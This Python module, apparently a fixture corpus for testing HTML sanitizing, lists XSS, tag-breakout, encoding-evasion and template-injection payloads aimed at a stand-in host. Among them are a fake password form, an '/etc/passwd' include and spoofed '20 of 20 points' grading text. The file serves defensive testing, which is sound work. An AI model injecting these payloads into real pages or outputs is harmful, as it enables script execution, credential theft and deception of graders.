"""What could be more than text to a browser: each kind of active content, and of text that becomes it on the way."""

from __future__ import annotations

_JS = "alert(document.domain)"
_OUT = "http://outside.test/"

MARKUP = (
    # scripts, and what runs them
    f"<script>{_JS}</script>",
    f"<script src={_OUT}></script><script type=module>import '{_OUT}'</script>",
    f"<img src=x onerror={_JS}><body onload={_JS}><video onerror={_JS}><source></video>",
    f"<input autofocus onfocus={_JS}><details open ontoggle={_JS}>x</details><marquee onstart={_JS}>x</marquee>",
    f"<p style=animation:x onanimationstart={_JS}>x</p><style>@keyframes x{{}}</style>",
    f'" onmouseover="{_JS}" style="position:fixed;inset:0" autofocus x="',
    f"' onfocus='{_JS}' tabindex=0 '",
    f"<a href=javascript:{_JS}>x</a><a href='java\tscript:{_JS}'>x</a>",
    f"<a href='data:text/html,<script>{_JS}</script>'>x</a><script type=importmap>{{}}</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_OUT}"]}}]}}</script>',
    # other languages in the page
    f"<svg onload={_JS}><script>{_JS}</script><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    f"<svg><use href='{_OUT}#x'/><image href='{_OUT}'/><a href='javascript:{_JS}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_JS}</script>'></iframe></foreignObject></svg>",
    f"<math href=javascript:{_JS}><mi>x</mi><annotation-xml encoding=text/html><img src=x onerror={_JS}></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_JS}&gt;'>",
    f"$$\\href{{javascript:{_JS}}}{{x}}$$ \\(\\unicode{{<script>{_JS}</script>}}\\) \\[\\require{{html}}\\]",
    f"[x](javascript:{_JS}) ![x]({_OUT}) <{_OUT}> **x** # x\n```html\n<script>{_JS}</script>\n```",
    f"{_OUT} www.outside.test mailto:x@outside.test javascript:{_JS} //outside.test @everyone",
    # what asks for something, or goes somewhere
    f"<img src={_OUT} srcset='{_OUT} 2x'><video poster={_OUT} src={_OUT}></video><audio src={_OUT} autoplay></audio>",
    f"<link rel=stylesheet href={_OUT}><link rel=preconnect href={_OUT}><link rel=prefetch href={_OUT}>",
    f"<style>@import url({_OUT});body{{background:url({_OUT})}}*{{display:none!important}}</style>",
    f"<p style='background:url({_OUT});position:fixed;inset:0;font-size:99vw'>20 of 20 points</p>",
    f"<iframe src={_OUT}></iframe><iframe srcdoc='<script>{_JS}</script>'></iframe><frameset><frame src={_OUT}>",
    f"<object data={_OUT}><embed src={_OUT}></object><applet code=x></applet><portal src={_OUT}></portal>",
    f"<form action={_OUT}><input name=password><button formaction={_OUT}>Log in again</button></form>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'><base href={_OUT}><meta http-equiv=set-cookie content=x=1>",
    f"<a ping={_OUT} href=#question-1>x</a><area href={_OUT}><q cite={_OUT}>x</q><blockquote cite={_OUT}>x",
    # what breaks out of where it stands
    f"</title><script>{_JS}</script>",
    f"</style></script></textarea></noscript></template><script>{_JS}</script>",
    f"</p></li></ul></section></main></body></html><script>{_JS}</script><p>",
    f"--><script>{_JS}</script><!-- <![CDATA[ ]]> <?php ?> <% %> <plaintext><xmp><listing><noembed>",
    f"<template shadowrootmode=open><script>{_JS}</script></template><slot></slot><x-y is=z>x</x-y>",
    "<dialog open>Your session has ended</dialog><p popover>x</p><table><tr><td>20/20</table><h1>Full marks</h1>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'></noscript>",
    # what becomes markup by being decoded once too often
    f"&lt;script&gt;{_JS}&lt;/script&gt; &#60;script>{_JS}&#x3c;/script> &amp;lt;b&amp;gt;",
    f"+ADw-script+AD4-{_JS}+ADw-/script+AD4- %3Cscript%3E{_JS}%3C/script%3E \\u003cscript\\u003e",
    f"\uff1cscript\uff1e{_JS}\uff1c/script\uff1e \u2039script\u203a \u226escript\u226f",
    f"<\x00script>{_JS}</script> <scr\x00ipt>{_JS}</script> <\u200bscript> <script\x0c>{_JS}</script>",
    "{{ 7 * 7191 }} {% include '/etc/passwd' %} {# x #} ${7*7191} <%= 7*7191 %> #{7*7191} [[x]] {{constructor}}",
    # what is seen to be something else
    "\u202e<script>\u2066x\u2069 \u200f20 of 20 points\u061c",
    "e" + "\u0301" * 1500 + " Z\u0489\u0335\u0336\u0337" * 40,
    "wide" * 400 + "\ufdfd" * 50 + "\U0001242b" * 50,
    "\n" * 500 + "\u2028" * 50 + "far below" + "\u3000" * 300,
)
